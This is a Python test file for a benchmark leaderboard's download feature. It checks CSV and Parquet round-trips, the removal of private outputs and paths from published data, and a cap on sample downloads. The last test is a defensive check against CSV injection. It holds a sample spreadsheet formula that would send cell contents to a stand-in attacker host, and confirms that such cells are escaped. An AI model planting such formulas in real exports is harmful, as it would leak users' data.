"""The downloads: the leaderboard table as shown, the runs behind it without spec paths, their samples
without private text, bounded, and the licence note."""

from __future__ import annotations

import io
import shutil
from pathlib import Path

import duckdb
import pandas as pd
from boardtest import frame, open_app

from kvbench.leaderboard import downloads, queries
from kvbench.leaderboard.queries import Compression

HUB = Path(__file__).resolve().parents[1] / "fixtures" / "hub"


def test_the_table_round_trips_through_csv_and_parquet(board_db: Path, monkeypatch) -> None:
    app = open_app(board_db, monkeypatch)
    shown = frame(app, "Leaderboard")
    parquet = pd.read_parquet(io.BytesIO(downloads.parquet_bytes(shown)))
    pd.testing.assert_frame_equal(parquet, shown)
    csv = pd.read_csv(io.BytesIO(downloads.csv_bytes(shown)))
    assert list(csv["policy"]) == list(shown["policy"]) and list(csv.columns) == list(shown.columns)
    (view,) = [t for t in app.tabs if t.label == "Downloads"]
    labels = [b.label for b in view.get("download_button")]
    assert len(labels) == 6 and {"the runs behind it (Parquet)", "their samples (CSV)"} <= set(labels)
    licence = " ".join(m.value for m in view.markdown)
    assert "CC BY 4.0" in licence and "GPQA" in licence and "never" in licence


def test_runs_and_samples_hold_no_path_and_no_private_text(board_db: Path, tmp_path: Path) -> None:
    # the runner never stores a private task's output; plant one, as a database written otherwise might
    planted = tmp_path / "planted.duckdb"
    shutil.copyfile(board_db, planted)
    with duckdb.connect(str(planted)) as con:
        con.execute("UPDATE samples SET output = 'PRIVATE-planted' WHERE task = 'gpqa-diamond'")
    board_db = planted
    table = queries.leaderboard(board_db, "tiny-qwen3", "protect-prompt", Compression(None, 384))
    runs = downloads.published_runs(board_db, table.run_ids)
    assert sorted(runs["run_id"]) == sorted(table.run_ids) and "spec" not in runs.columns
    text = runs.astype(str).to_csv()
    assert str(HUB) not in text and "Linux-" not in text and runs["cpu"].notna().all()
    samples = downloads.published_samples(board_db, table.run_ids)
    con = duckdb.connect(str(board_db), read_only=True)
    expected = con.execute(
        "SELECT s.run_id, s.problem_id, s.sample, r.visibility, s.output FROM samples s JOIN runs r "
        "USING (run_id) WHERE list_contains(?, s.run_id) ORDER BY ALL",
        [table.run_ids],
    ).df()
    con.close()
    assert samples.total == len(expected) == len(samples.frame) and not samples.capped
    merged = samples.frame.merge(expected, on=["run_id", "problem_id", "sample"], suffixes=("", "_stored"))
    private = merged["visibility"] == "private"
    assert private.any() and merged.loc[private, "output"].isna().all()
    assert (merged.loc[~private, "output"] == merged.loc[~private, "output_stored"]).all()
    assert (merged.loc[private, "output_stored"] == "PRIVATE-planted").all()
    assert "PRIVATE-" not in samples.frame.astype(str).to_csv()
    private_run = merged.loc[private, "run_id"].iloc[0]
    assert queries.problems(board_db, private_run).frame["output"].isna().all()  # nor the drill-down


def test_the_samples_download_is_capped(board_db: Path) -> None:
    table = queries.leaderboard(board_db, "tiny-qwen3", "protect-prompt", Compression(2.0, None))
    every = downloads.published_samples(board_db, table.run_ids)
    few = downloads.published_samples(board_db, table.run_ids, limit=5)
    assert few.capped and len(few.frame) == 5 and few.total == every.total == len(every.frame)
    pd.testing.assert_frame_equal(few.frame, every.frame.head(5))
    assert downloads.deferred(downloads.csv_bytes, lambda: few.frame)().count(b"\n") == 6


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_shown_as_text() -> None:
    """A submitter named ``=HYPERLINK(...)`` (CSV injection): every such text cell gets a leading
    apostrophe, read back by a CSV reader as the text it was with that mark; numbers stay numbers."""
    attack = '=HYPERLINK("https://evil.example/?leak="&B2,"verified")'
    shown = pd.DataFrame(
        {"submission": [attack, "+1 group", "@sum", "-x", "honest"], "delta": [-0.5, 0.1, 0.0, -1.0, 2.0]}
    )
    read = pd.read_csv(io.BytesIO(downloads.csv_bytes(shown)))
    assert list(read["submission"]) == ["'" + attack, "'+1 group", "'@sum", "'-x", "honest"]
    assert list(read["delta"]) == [-0.5, 0.1, 0.0, -1.0, 2.0]
